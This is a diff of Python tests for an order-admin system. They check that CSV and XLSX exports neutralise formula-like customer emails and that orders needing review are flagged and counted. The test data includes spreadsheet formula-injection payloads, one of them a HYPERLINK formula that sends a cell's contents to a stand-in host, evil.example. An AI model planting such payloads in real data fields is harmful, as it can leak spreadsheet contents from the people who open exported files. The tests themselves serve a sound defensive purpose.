@@ -371,3 +371,64 @@ def test_dashboard_panel_reads_the_database_in_a_few_queries(manager_client):
 
 def test_editors_get_no_orders_panel_on_the_dashboard(editor_client):
     assert PANEL not in editor_client.get("/admin/").content.decode()
+
+
+FORMULA_EMAILS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")@example.com',
+    "+1+2@example.com",
+    "-1-2@example.com",
+    "@SUM(1+1)@example.com",
+    "\t=1@example.com",
+    "\r=1@example.com",
+]
+
+
+def test_csv_export_shows_formula_like_emails_as_text_not_formulas(manager_client):
+    for number, email in enumerate(FORMULA_EMAILS):
+        make_order(owner_key=f"session:{number}", customer_email=email)
+    make_order(owner_key="session:plain", customer_email="plain@example.com")
+
+    response = manager_client.get(INDEX_URL, {"export": "csv"})
+
+    emails = sorted(row[4] for row in csv_rows(response)[1:])
+    assert emails == sorted(["plain@example.com", *(f"'{email}" for email in FORMULA_EMAILS)])
+
+
+def test_xlsx_export_keeps_formula_like_emails_as_text(manager_client):
+    make_order(customer_email=FORMULA_EMAILS[0])
+
+    response = manager_client.get(INDEX_URL, {"export": "xlsx"})
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    email_cell = list(sheet.iter_rows())[1][4]
+    assert (email_cell.value, email_cell.data_type) == (FORMULA_EMAILS[0], "s")
+
+
+def test_orders_needing_review_are_marked_filtered_explained_and_counted(manager_client):
+    flagged = make_order(
+        status=Status.PAID,
+        total="199.99",
+        paid_at=timezone.now(),
+        charged_currency="eur",
+        charged_total=1,
+        review_reasons="Stripe charged in EUR, but the order is in USD.",
+    )
+    fine = make_order(owner_key="session:fine", status=Status.PAID, paid_at=timezone.now())
+
+    listing = manager_client.get(INDEX_URL)
+    needing_review = manager_client.get(INDEX_URL, {"needs_review": "true"})
+    order_page = manager_client.get(order_url(flagged)).content.decode()
+    panel = manager_client.get("/admin/").content.decode()
+    panel = panel[panel.index(PANEL) :]
+
+    rows = listing.content.decode().split("<tr")
+    [flagged_row] = [row for row in rows if flagged.reference in row]
+    [fine_row] = [row for row in rows if fine.reference in row]
+    assert "Needs review" in flagged_row and "Needs review" not in fine_row
+    assert references_in(needing_review.content, flagged, fine) == [flagged.reference]
+    assert "Needs review." in order_page
+    assert "Stripe charged in EUR, but the order is in USD." in order_page
+    assert "1 in EUR (smallest units)" in order_page
+    assert f"{INDEX_URL}?needs_review=true" in panel
+    review_row = panel[panel.index("Needs review") :]
+    assert review_row.index("1 order") < review_row.index("</tr>")
